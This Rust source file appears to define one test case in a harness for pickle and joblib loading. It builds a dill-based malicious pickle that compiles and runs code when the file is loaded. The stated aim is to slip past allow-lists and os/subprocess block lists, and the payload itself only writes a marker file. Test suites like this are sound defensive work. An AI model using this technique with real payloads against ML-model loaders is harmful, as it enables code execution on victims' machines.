//! A class that is put together by value while loading, around a function that is compiled then.

use super::*;

use crate::pickle::Op;

/// dill makes a function and a class around it, and the pickle calls the method.
pub const ATTACK: Attack = Attack {
    id: "dill-function",
    title: "a class rebuilt by dill",
    summary: "Files of dill hold functions and classes by value. This one lets builtins.compile make \
              the code, so that it fits every version of Python, has dill make a function of it and a \
              class around that, and calls the method. Lists of safe names that know dill let it \
              pass, and lists of forbidden ones look for os and subprocess, which it does not name.",
    severity: Severity::Critical,
    targets: Targets::PythonWith(&[Loader::Pickle, Loader::Joblib], "dill"),
    techniques: &[techniques::PYTHON, techniques::UNSAFE_ML_ARTIFACTS],
    cwe: &[502, 94],
    references: &[Reference {
        title: "dill: the notice on security",
        url: "https://github.com/uqfoundation/dill",
    }],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Created("fallen.txt")],
        // It comes no further: dill opens this device for writing when it is imported, to learn the types of
        // files, and cannot be imported where that is denied.
        policy: &[Evidence { kind: EventKind::FileWrite, text: "/dev/null" }],
    },
    quick: false,
};

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let path = payload::quoted(&scene.path("fallen.txt"));
    let source = format!("with open({path}, 'w') as file:\n    file.write('fallen')\n");
    payload::file(ATTACK.id, target, |assembler| {
        assembler.global("builtins", "getattr");
        assembler.global("dill._dill", "_create_type").op(Op::Mark);
        assembler.global("builtins", "type").text("Model").op(Op::EmptyTuple);
        assembler.op(Op::EmptyDict).text("predict");
        // The code of a module takes no argument, so the function is to get none.
        assembler.global("builtins", "staticmethod");
        assembler.global("dill._dill", "_create_function");
        assembler.global("builtins", "compile").text(&source).text("<model>").text("exec");
        assembler.op(Op::Tuple3).op(Op::Reduce).op(Op::EmptyDict).text("predict");
        assembler.op(Op::Tuple3).op(Op::Reduce).op(Op::Tuple1).op(Op::Reduce);
        assembler.op(Op::SetItem).op(Op::Tuple).op(Op::Reduce);
        assembler.text("predict").op(Op::Tuple2).op(Op::Reduce);
        assembler.op(Op::EmptyTuple).op(Op::Reduce);
    })
}
